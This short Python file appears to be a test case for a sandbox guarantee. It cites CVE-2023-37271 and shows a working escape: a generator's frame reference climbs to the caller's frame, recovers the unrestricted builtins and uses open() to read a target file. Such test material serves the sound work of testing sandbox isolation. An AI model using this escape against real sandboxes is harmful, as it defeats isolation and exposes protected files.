"""Climb from a generator to the frame that runs it.

guarantee: no-reflection
layer: language
wins: reflects
outcome: harmless
reference: CVE-2023-37271
"""

def make():
    yield spy.gi_frame.f_back

spy = make()
frame = next(spy)
print("WON reached", frame)
print(frame.f_builtins["open"](TARGET["file"]).read())
